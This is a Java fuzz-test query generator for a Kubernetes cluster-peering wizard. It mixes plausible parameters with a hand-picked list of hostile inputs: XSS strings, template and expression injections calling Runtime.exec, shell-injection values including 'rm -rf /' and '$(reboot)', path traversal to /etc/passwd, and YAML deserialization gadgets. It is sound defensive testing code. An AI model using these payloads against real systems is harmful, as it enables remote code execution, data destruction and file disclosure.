package dev.liqowizard.fuzz;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Query strings for the fuzz test from a seeded generator: mostly plausible answers, then zero to
 * three mutations drawn from hostile payloads, random text, repeats, removals, unknown names and
 * broken escapes. The same seed gives the same queries.
 */
final class FuzzQueries {

	/** Payloads chosen by hand: markup, template and expression languages, YAML, shell, odd text. */
	static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"'\"><svg/onload=alert(1)>", "</textarea><script>alert(1)</script>", "javascript:alert(1)",
			"${7*191}", "__${7*191}__", "__${7*191}__::.x", "#{7*191}", "*{7*191}", "@{/x}", "~{x}", "[[${7*191}]]",
			"[(${7*191})]", "{{7*191}}", "T(java.lang.Runtime).getRuntime().exec('id')", "$(reboot)", "`id`",
			"; rm -rf / ;", "| id", "&& id", "a'b", "a\"b", "a\\b", "a\nb", "a\r\nb", "\u0000", "\u0007", "\u001b[31m",
			"\u202eevil", "\u200b", "\ufeff", "é", "日本語", "🙂", "../../etc/passwd", "%00", "%2e%2e%2f",
			"!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
			"key: value", "- item", "*anchor", "&anchor x", "? x", "| x", "> x", "#comment", "---", "...", "\t",
			" ", "", "null", "~", "yes", "on", "0x1F", "1e3", "-1", "0", "65536", "99999999999999999999", "3.14",
			"10.0.0.0/33", "256.1.1.1", "::1", "[::1]", "a.b.c.d", "EDGE", "edge-", "-edge", "a_b", "a..b",
			"xn--bcher-kva.example", "k8s.example.com.", "x".repeat(300), "x".repeat(5000),
			"a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z", "v0.3.2;id", "internet\nlan");

	private static final List<String> NAMES = List.of("edge", "azure", "rack-1", "rack-2", "cluster-a", "c",
			"x".repeat(63));

	private static final List<String> ADDRESSES = List.of("203.0.113.10", "k8s.example.com", "10.20.0.10",
			"aks-1a2b.hcp.westeurope.azmk8s.io");

	private static final List<String> CIDRS = List.of("10.42.0.0/16", "10.43.0.0/16", "10.244.0.0/16",
			"10.96.0.0/12");

	private static final List<String> PORTS = List.of("443", "6443", "5871", "30443", "1", "65535");

	private static final List<String> FIELDS = List.of("name", "location", "distribution", "address", "auth",
			"ingressHost", "ingressClass", "lb", "podCidr", "serviceCidr", "natAuthPort", "natApiPort",
			"natGatewayPort");

	private final Random random;

	FuzzQueries(long seed) {
		this.random = new Random(seed);
	}

	String next() {
		List<Map.Entry<String, String>> pairs = plausible();
		int mutations = pick(List.of(0, 0, 0, 1, 1, 1, 1, 2, 2, 3));
		for (int i = 0; i < mutations; i++) {
			mutate(pairs);
		}
		if (this.random.nextInt(4) == 0) {
			Collections.shuffle(pairs, this.random);
		}
		StringBuilder query = new StringBuilder();
		for (Map.Entry<String, String> pair : pairs) {
			query.append(query.isEmpty() ? "" : "&").append(encode(pair.getKey())).append('=')
				.append(encode(pair.getValue()));
		}
		if (this.random.nextInt(40) == 0) {
			query.append(pick(List.of("&%zz=1", "&a.name=%", "&a.name=%E2%82", "&&", "&=", "&a.name", "&%3D=%26")));
		}
		return query.toString();
	}

	private List<Map.Entry<String, String>> plausible() {
		List<Map.Entry<String, String>> pairs = new ArrayList<>();
		if (this.random.nextBoolean()) {
			pairs.add(Map.entry("liqo", "v0.3.2"));
		}
		pairs.add(Map.entry("network", pick(List.of("internet", "lan", "routed"))));
		for (String side : List.of("a", "b")) {
			String location = pick(List.of("cloud", "onprem", "onprem-nat"));
			if (this.random.nextBoolean()) {
				pairs.add(Map.entry(side + ".name", pick(NAMES)));
			}
			pairs.add(Map.entry(side + ".location", location));
			if (this.random.nextBoolean()) {
				pairs.add(Map.entry(side + ".distribution",
						location.equals("cloud") ? pick(List.of("aks", "gke", "eks")) : pick(List.of("k8s", "k3s"))));
			}
			if (this.random.nextBoolean()) {
				pairs.add(Map.entry(side + ".address", pick(ADDRESSES)));
			}
			if (this.random.nextInt(3) == 0) {
				pairs.add(Map.entry(side + ".podCidr", CIDRS.get(0)));
				pairs.add(Map.entry(side + ".serviceCidr", CIDRS.get(1)));
			}
			if (location.equals("onprem-nat") && this.random.nextInt(3) == 0) {
				pairs.add(Map.entry(side + ".natAuthPort", pick(PORTS)));
				pairs.add(Map.entry(side + ".natApiPort", pick(PORTS)));
				pairs.add(Map.entry(side + ".natGatewayPort", pick(PORTS)));
			}
			if (!location.equals("onprem-nat") && this.random.nextInt(4) == 0) {
				String auth = pick(List.of("loadbalancer", "ingress", "nodeport"));
				pairs.add(Map.entry(side + ".auth", auth));
				if (auth.equals("ingress")) {
					pairs.add(Map.entry(side + ".ingressHost", "liqo-" + side + ".example.com"));
					pairs.add(Map.entry(side + ".ingressClass", "nginx"));
				}
			}
			if (location.equals("onprem") && this.random.nextInt(4) == 0) {
				pairs.add(Map.entry(side + ".lb", pick(List.of("yes", "no"))));
			}
		}
		return pairs;
	}

	private void mutate(List<Map.Entry<String, String>> pairs) {
		int kind = this.random.nextInt(8);
		int index = pairs.isEmpty() ? 0 : this.random.nextInt(pairs.size());
		switch (kind) {
			case 0, 1 -> {
				if (!pairs.isEmpty()) {
					pairs.set(index, Map.entry(pairs.get(index).getKey(), payload()));
				}
			}
			case 2 -> pairs.add(Map.entry(pick(List.of("a.", "b.", "")) + pick(FIELDS), payload()));
			case 3 -> {
				if (!pairs.isEmpty()) {
					pairs.add(pairs.get(index));
				}
			}
			case 4 -> {
				if (!pairs.isEmpty()) {
					pairs.remove(index);
				}
			}
			case 5 -> pairs.add(Map.entry(payload(), payload()));
			case 6 -> pairs.add(Map.entry(pick(List.of("a.", "b.")) + pick(FIELDS), ""));
			default -> pairs.add(Map.entry("peering", pick(List.of("a-to-b", "both", payload()))));
		}
	}

	private String payload() {
		if (this.random.nextBoolean()) {
			return pick(HOSTILE);
		}
		int length = this.random.nextInt(10) == 0 ? 200 + this.random.nextInt(400) : this.random.nextInt(24);
		StringBuilder text = new StringBuilder();
		String alphabet = "abcz09.-_/:;'\"`$()<>{}[]|&*#!?~%\\ \t\n\r";
		for (int i = 0; i < length; i++) {
			int choice = this.random.nextInt(10);
			if (choice < 7) {
				text.append(alphabet.charAt(this.random.nextInt(alphabet.length())));
			}
			else if (choice < 9) {
				text.appendCodePoint(0x80 + this.random.nextInt(0x2F00));
			}
			else {
				text.appendCodePoint(0x1F300 + this.random.nextInt(0x200));
			}
		}
		return text.toString();
	}

	private String encode(String text) {
		String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
		// Browsers and hand-made links leave some characters raw; so do some of these queries.
		return (this.random.nextInt(5) == 0) ? encoded.replace("%3C", "<").replace("%3E", ">").replace("%22", "\"")
				.replace("%27", "'") : encoded;
	}

	private <T> T pick(List<T> options) {
		return options.get(this.random.nextInt(options.size()));
	}

}
